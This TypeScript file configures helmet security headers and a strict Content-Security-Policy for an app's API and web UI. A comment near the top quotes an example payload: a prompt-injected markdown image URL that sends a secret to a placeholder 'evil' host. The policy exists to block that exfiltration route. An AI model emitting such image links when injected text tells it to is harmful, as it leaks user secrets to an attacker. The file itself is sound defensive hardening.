import helmet from 'helmet';

/**
 * CSP for the API and the same-origin web UI. Everything from our own origin only; `img-src`
 * allows `data:` but no remote hosts, so a prompt-injected `![](https://evil/?q=<secret>)` in a
 * rendered reply cannot send data out through an image load (INJ-04). `style-src 'unsafe-inline'`
 * is for the UI's inline styles; scripts stay strict. No `upgrade-insecure-requests` (helmet's
 * default adds it): it would break the UI when served over plain http on a LAN address.
 */
export const CSP_DIRECTIVES: Readonly<Record<string, readonly string[]>> = {
  'default-src': ["'self'"],
  'img-src': ["'self'", 'data:'],
  'script-src': ["'self'"],
  'style-src': ["'self'", "'unsafe-inline'"],
  'connect-src': ["'self'"],
  'frame-ancestors': ["'none'"],
  'object-src': ["'none'"],
  'base-uri': ["'self'"],
};

/**
 * The Content-Security-Policy header value exactly as `securityHeaders()` sends it (helmet joins
 * directives with `;` and no space), so e2e tests can compare the header with `toBe`.
 */
export const CONTENT_SECURITY_POLICY = Object.entries(CSP_DIRECTIVES)
  .map(([name, values]) => `${name} ${values.join(' ')}`)
  .join(';');

/**
 * Helmet configured for OneClaw (API-10): the CSP above, `nosniff`, `X-Frame-Options: DENY`,
 * `Referrer-Policy: no-referrer` (URLs can carry session ids or an SSE `access_token`), HSTS with
 * helmet's default (browsers only honour it over https), no `X-Powered-By`. COEP stays off: it
 * would demand CORP headers from every resource for no gain in a same-origin app.
 *
 * Wiring (configure-app.ts), as the FIRST `app.use`, so 404s and errors get the headers too:
 *   app.use(securityHeaders());
 */
export function securityHeaders(): ReturnType<typeof helmet> {
  return helmet({
    contentSecurityPolicy: {
      useDefaults: false,
      directives: Object.fromEntries(Object.entries(CSP_DIRECTIVES).map(([name, values]) => [name, [...values]])),
    },
    crossOriginEmbedderPolicy: false,
    xContentTypeOptions: true,
    xFrameOptions: { action: 'deny' },
    referrerPolicy: { policy: 'no-referrer' },
    strictTransportSecurity: true,
    xPoweredBy: true,
  });
}
